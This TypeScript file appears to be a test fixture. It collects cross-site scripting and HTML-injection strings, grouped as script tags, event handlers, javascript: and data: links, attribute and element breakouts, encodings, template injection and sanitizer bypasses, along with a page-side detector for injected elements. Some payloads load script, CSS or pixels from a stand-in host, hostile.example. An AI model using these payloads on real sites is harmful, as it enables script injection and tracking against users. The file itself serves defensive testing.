/**
 * Texts that would be script, markup, a link or a style where a page takes text for any of these. Each would either open
 * a dialog, leave an element that no page of ours has, break the content security policy, or ask another host.
 * By the ways in which markup comes to run: tags, event handlers, addresses, ends of an attribute or an element, encodings,
 * languages inside HTML, templates of frameworks, and what sanitizers have let through.
 */

const scripts = [
  '<script>alert(1)</script>',
  '<ScRiPt >alert(1)</sCrIpT >',
  '<script src="https://hostile.example/a.js"></script>',
  '<script src=//hostile.example/a.js>',
  '<script type=module>import("https://hostile.example/a.js")</script>',
  '<script\\x20type="text/javascript">alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)<!--',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
];

const handlers = [
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" data-hostile>',
  '<img/src/onerror=alert(1)>',
  '<img src=x onerror="alert(String.fromCharCode(88,83,83))">',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  "<img src='x' onerror='alert(1)'>",
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)//',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=onmouseover value=alert(1)>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<body onload=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video src=x onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)></audio>',
  '<video><source onerror=alert(1)></video>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<div onpointerenter=alert(1) data-hostile>point here</div>',
  '<div style="animation:x" onanimationstart=alert(1) data-hostile>',
  '<keygen autofocus onfocus=alert(1)>',
];

const addresses = [
  '<a href="javascript:alert(1)">mend it</a>',
  '<a href="JaVaScRiPt:alert(1)">mend it</a>',
  '<a href="&#106;avascript:alert(1)">mend it</a>',
  '<a href="data:text/html,<script>alert(1)</script>">mend it</a>',
  '<a href=" &#x09;javascript:alert(1)">mend it</a>',
  'javascript:alert(1)',
  'javascript:/*--></title></style></textarea></script></xmp><svg/onload=alert(1)>',
  '[mend it](javascript:alert(1))',
  '![x](https://hostile.example/pixel.png)',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button data-hostile>Confirm updates</button></form>',
  '<form><button formaction="javascript:alert(1)" data-hostile>Confirm updates</button></form>',
  '<base href="https://hostile.example/">',
  '<meta http-equiv="refresh" content="0;url=https://hostile.example/">',
  '<link rel=stylesheet href="https://hostile.example/a.css">',
  '<img src="https://hostile.example/pixel.png">',
];

const ends = [
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" autofocus onfocus=alert(1) x="',
  "' onmouseover=alert(1) x='",
  '</span></td></tr></table><img src=x onerror=alert(1)>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '--><script>alert(1)</script>',
  ']]><script>alert(1)</script>',
  "';alert(1);//",
  '${alert(1)}',
  '{{constructor.constructor("alert(1)")()}}',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
];

const sanitizers = [
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<style>@import "https://hostile.example/a.css";</style>',
  '<div style="background:url(https://hostile.example/pixel.png)" data-hostile>x</div>',
  '<form id=main><input name=innerHTML data-hostile></form>',
  '`<img src=x onerror=alert(1)>`',
  '{"__html":"<img src=x onerror=alert(1)>"}',
];

export const hostileTexts: readonly string[] = [...scripts, ...handlers, ...addresses, ...ends, ...sanitizers];

/** Run in a page: what it finds there that came in with such a text, as short descriptions. */
export const hostileElements = `[...document.querySelectorAll('*')].flatMap((element) => {
  const { localName, attributes } = element;
  const tags = ['iframe', 'object', 'embed', 'base', 'marquee', 'math', 'video', 'audio', 'source', 'details', 'template',
    'animate', 'set', 'foreignObject', 'foreignobject', 'keygen', 'textarea', 'mglyph', 'script', 'style', 'link', 'meta'];
  // The page's own, which stand in its head from the beginning.
  const isOwn = document.head.contains(element) && !/hostile|refresh/.test(element.outerHTML);
  const isTag = tags.includes(localName) && !isOwn;
  const leads = (value) => {
    const url = URL.parse(value, location.href);
    return url !== null && url.origin !== location.origin;
  };
  const isAttribute = [...attributes].some(({ name, value }) =>
    name.startsWith('on') || name === 'data-hostile' || name === 'srcdoc' ||
    (/^(href|src|action|formaction|data|xlink:href)$/.test(name) && leads(value)));
  return isTag || isAttribute ? [element.outerHTML.slice(0, 200)] : [];
})`;
